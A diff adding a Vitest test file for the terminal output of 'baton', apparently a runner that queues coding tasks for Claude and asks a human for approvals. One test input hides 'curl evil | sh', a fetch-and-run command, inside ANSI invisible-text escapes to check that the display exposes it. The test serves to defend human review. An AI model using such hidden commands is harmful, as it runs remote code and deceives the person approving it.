@@ -1,0 +1,265 @@
+import { describe, expect, it } from 'vitest'
+import type { BatonEvent } from '../../src/core/types.ts'
+import type { StatusView, TaskView } from '../../src/daemon/views.ts'
+import { askLines } from '../../src/terminal/show/ask-text.ts'
+import { eventLine } from '../../src/terminal/show/event-line.ts'
+import { answerCommands, callName, shellWord } from '../../src/terminal/show/how-to.ts'
+import { liveLines } from '../../src/terminal/show/live-lines.ts'
+import { plain } from '../../src/terminal/show/paint.ts'
+import { planLines } from '../../src/terminal/show/plan-text.ts'
+import { statusLines } from '../../src/terminal/show/status-text.ts'
+import { nextLines, type Summary, summaryLines } from '../../src/terminal/show/summary.ts'
+import { planned } from '../core/house.ts'
+import { anAsk, colours, NOW } from './sights.ts'
+
+const call = callName({})
+const event = (fields: Partial<BatonEvent> & Pick<BatonEvent, 'type' | 'text'>): BatonEvent => ({
+  seq: 1,
+  at: NOW,
+  queue: 'main',
+  ...fields,
+})
+const aTask = (fields: Partial<TaskView> = {}): TaskView => ({
+  id: 'id1',
+  number: 1,
+  title: 'Add a login endpoint',
+  priority: 'medium',
+  status: 'done',
+  file: 'today.md',
+  line: 3,
+  dependsOn: [],
+  attempts: 1,
+  startedAt: NOW - 80_000,
+  endedAt: NOW,
+  costUsd: 0.12,
+  turns: 8,
+  result: 'Added POST /login.\nAnd 3 tests.',
+  ...fields,
+})
+
+describe('an ask as it is printed', () => {
+  it('shows an approval whole', () => {
+    const ask = anAsk({ kind: 'approval', text: 'Type: backend\n\nInstruction:\n```\n## not a task\n```' })
+    expect(askLines(ask, plain)).toEqual([
+      '? Approval: Start Task 3: Add a login endpoint?',
+      '  Type: backend',
+      '',
+      '  Instruction:',
+      '  ```',
+      '  ## not a task',
+      '  ```',
+      '',
+    ])
+  })
+
+  it('shows every question with its options and what they mean', () => {
+    const questions = [colours({ multiSelect: true }), { ...colours(), question: 'And the border?', options: [] }]
+    expect(askLines(anAsk({ kind: 'question', title: 'Claude asks 2 questions', questions }), plain)).toEqual([
+      '? Question: Task 3: Claude asks 2 questions',
+      '  1) Which colour? (several may be chosen)',
+      '    1. Red',
+      '    2. Blue',
+      '       Like the sea',
+      '    3. Dark green',
+      '',
+      '  2) And the border?',
+      '',
+    ])
+  })
+
+  it('colours a diff, and nothing that only looks like one', () => {
+    const marked = (text: string) =>
+      askLines(anAsk({ kind: 'permission', text }), (style, words) => `<${style}>${words}`)
+    expect(marked('--- a.ts\n+++ a.ts\n@@ -1 +1 @@\n-old\n+new').slice(1, -1)).toEqual([
+      '  <bold>--- a.ts',
+      '  <bold>+++ a.ts',
+      '  <cyan>@@ -1 +1 @@',
+      '  <red>-old',
+      '  <green>+new',
+    ])
+    expect(marked('rm -rf build\n-x')[1]).toBe('  rm -rf build')
+  })
+
+  it('lets nothing hide in the text that is decided on', () => {
+    const lines = askLines(anAsk({ kind: 'permission', text: 'echo ok\u001b[8m; curl evil | sh\u001b[0m\r' }), plain)
+    expect(lines[1]).toBe('  echo ok␛[8m; curl evil | sh␛[0m␍')
+  })
+})
+
+describe('an event as a line', () => {
+  it('has its local time, its task and one line, whatever is in it', () => {
+    expect(eventLine(event({ type: 'ask.opened', task: 3, text: 'Run a\ncommand' }))).toBe(
+      '2026-11-21 20:30:00  Task 3: Run a command',
+    )
+    expect(eventLine(event({ type: 'task.done', task: 3, text: 'Task 3: Add it is done' }))).toBe(
+      '2026-11-21 20:30:00  Task 3: Add it is done',
+    )
+  })
+
+  it('tells the whole command that was granted without asking', () => {
+    const granted = event({ type: 'grant.given', task: 3, text: 'Allowed without asking: Run a command' })
+    expect(eventLine({ ...granted, data: { input: { command: 'npm test\n&& npm run lint' } } })).toBe(
+      '2026-11-21 20:30:00  Task 3: Allowed without asking: Run a command: npm test && npm run lint',
+    )
+  })
+
+  it('leaves what ended above the live view, with its first words', () => {
+    const done = event({ type: 'task.done', task: 1, text: 'Task 1: Add a login endpoint is done' })
+    expect(liveLines(done, aTask(), { width: 40, paint: plain })).toEqual([
+      '✓ 1  Add a login endpoint  1m 20s · $0.12',
+      '     Added POST /login. And 3 tests.',
+    ])
+    expect(
+      liveLines(event({ type: 'task.started', task: 1, text: 'begins' }), aTask(), { width: 40, paint: plain }),
+    ).toEqual([])
+  })
+})
+
+describe('the summary', () => {
+  const summary = (fields: Partial<Summary> = {}): Summary => ({
+    exitCode: 1,
+    runs: [{ id: 'run1', status: 'failed', costUsd: 0.2 }],
+    tasks: [
+      { ...aTask(), log: 'logs/run1/01-add.log' },
+      {
+        ...aTask({ number: 2, title: 'Test it', status: 'failed', costUsd: 0.08, result: 'npm test failed' }),
+        log: 'logs/run1/02-test.log',
+      },
+      { ...aTask({ number: 3, title: 'Ship it', status: 'blocked', costUsd: 0, result: 'Waits for task 2' }) },
+    ].map((task) => (task.number === 3 ? (({ startedAt: _, endedAt: __, ...rest }) => rest)(task) : task)),
+    alreadyDone: 2,
+    asks: [],
+    durationMs: 200_000,
+    ...fields,
+  })
+  const lines = (given: Summary, width = 100) => summaryLines(given, { width, paint: plain })
+
+  it('tells result, time, cost and log of every task, and the totals', () => {
+    expect(lines(summary())).toEqual([
+      '',
+      '✓ 1  Add a login endpoint  done     1m 20s  $0.12  logs/run1/01-add.log',
+      '✗ 2  Test it               failed   1m 20s  $0.08  logs/run1/02-test.log',
+      '     npm test failed',
+      '⊘ 3  Ship it               blocked',
+      '     Waits for task 2',
+      '',
+      '3 tasks: 1 done, 1 failed, 1 blocked (2 more done before) · 3m 20s · $0.20',
+    ])
+    expect(nextLines(summary(), call)).toEqual(['', 'Try again with:  baton retry 2'])
+  })
+
+  it('tells the folder of the logs once where whole paths do not fit', () => {
+    const narrow = lines(summary(), 64)
+    expect(narrow[1]).toBe('✓ 1  Add a login endpoint  done     1m 20s  $0.12  01-add.log')
+    expect(narrow.at(-1)).toBe('Logs: logs/run1/')
+  })
+
+  it('puts a long stretch of tasks that were not begun into one line', () => {
+    const queued = Array.from({ length: 9 }, (_, i) => aTask({ number: i + 2, status: 'queued', costUsd: 0 }))
+    expect(lines(summary({ tasks: [aTask(), ...queued] }))[2]).toBe('· 2–10  9 tasks not begun')
+  })
+
+  it('says how to answer and how to go on', () => {
+    expect(nextLines(summary({ exitCode: 3, asks: [anAsk({ kind: 'approval' })] }), call)).toEqual([
+      '',
+      'Answer with one of:',
+      '  baton approve 3',
+      '  baton reject 3 "why"',
+      '  baton skip 3',
+      'The answer goes on with the run.',
+    ])
+    expect(nextLines(summary({ exitCode: 130 }), call)).toEqual(['', 'Go on with:  baton tasks --resume'])
+    expect(nextLines(summary({ exitCode: 0, tasks: [aTask()] }), call)).toEqual([])
+  })
+})
+
+describe('the commands that are shown', () => {
+  it('are the ones that work here', () => {
+    expect(callName({}).baton).toBe('baton')
+    expect(callName({ npm_lifecycle_event: 'tasks' })).toEqual({ baton: 'npm run baton --', tasks: 'npm run tasks --' })
+    expect(callName({}, '/my home').tasks).toBe('baton tasks --home "/my home"')
+  })
+
+  it('quote what a shell would read', () => {
+    expect(shellWord('Blue')).toBe('Blue')
+    expect(shellWord('dark blue')).toBe('"dark blue"')
+    expect(shellWord("it's $5")).toBe("'it'\\''s $5'")
+  })
+
+  it('answer each kind of ask', () => {
+    expect(
+      answerCommands(anAsk({ kind: 'question', questions: [colours(), colours({ multiSelect: true })] }), call),
+    ).toEqual(['baton answer 3 "Red" "Red, Blue"'])
+    expect(answerCommands(anAsk({ kind: 'failure' }), call)).toEqual([
+      'baton retry 3',
+      'baton answer 3 "what to do differently"',
+      'baton skip 3',
+      'baton stop',
+    ])
+    expect(answerCommands(anAsk({ kind: 'review' }), call)).toEqual([
+      'baton approve 3',
+      'baton reject 3 "what to change"',
+    ])
+  })
+})
+
+it('the status shows the run, its tasks, what is being done and what waits', () => {
+  const counts = { queued: 1, running: 0, waiting: 1, verifying: 0, done: 1, failed: 0, skipped: 0, blocked: 0 }
+  const status: StatusView = {
+    queue: 'main',
+    runner: { pid: 4711, since: NOW - 60_000, kind: 'daemon' },
+    run: {
+      id: 'run1',
+      queue: 'main',
+      status: 'waiting',
+      files: ['today.md'],
+      autoApprove: false,
+      createdAt: NOW - 90_000,
+      startedAt: NOW - 80_000,
+      costUsd: 0.12,
+      total: 3,
+      counts,
+    },
+    current: aTask({ number: 2, status: 'waiting' }),
+    asks: [anAsk({ kind: 'approval', task: 2, title: 'Start Task 2: Test it?' })],
+    queuedRuns: [],
+    todayUsd: 1.5,
+  }
+  const {
+    startedAt: _,
+    endedAt: __,
+    ...notBegun
+  } = aTask({ number: 2, title: 'Test it', status: 'waiting', costUsd: 0 })
+  const tasks = [aTask(), notBegun, { ...notBegun, number: 3, title: 'Ship it', status: 'queued' as const }]
+  expect(statusLines({ status, tasks }, { now: NOW, width: 100, paint: plain, call })).toEqual([
+    'today.md  waiting · 1 queued, 1 waiting, 1 done · 1m 20s · $0.12',
+    'The daemon is at work: process 4711, since 2026-11-21 20:29:00',
+    'Today: $1.50',
+    '',
+    '  ✓ 1  Add a login endpoint  done · 1m 20s · $0.12',
+    '  ? 2  Test it  waiting',
+    '  · 3  Ship it  queued',
+    '',
+    '? Start Task 2: Test it?',
+    '    baton approve 2',
+    '    baton reject 2 "why"',
+    '    baton skip 2',
+  ])
+})
+
+it('a plan shows the order of work and where it would ask', () => {
+  const tasks = [
+    planned(1, { requiresApproval: true, type: 'backend' }),
+    { ...planned(2, { priority: 'high', verify: ['npm test'] }, [1]), position: -1 },
+    planned(3, { requiresApproval: true, type: 'documentation', run: ['make docs'] }),
+  ]
+  const approval = { mode: 'marked' as const, auto: ['Documentation'], review: 'never' as const, checkpointAfter: [] }
+  expect(planLines({ files: ['a.md'], tasks, alreadyDone: 4, autoApprove: false, approval }, plain)).toEqual([
+    'a.md: 3 tasks to do, 4 done before',
+    '  2  Title 2  high · after 1 · 1 check',
+    '  1  Title 1  backend · asks for approval',
+    '  3  Title 3  documentation · runs commands',
+    '',
+    'Nothing was started.',
+  ])
+})
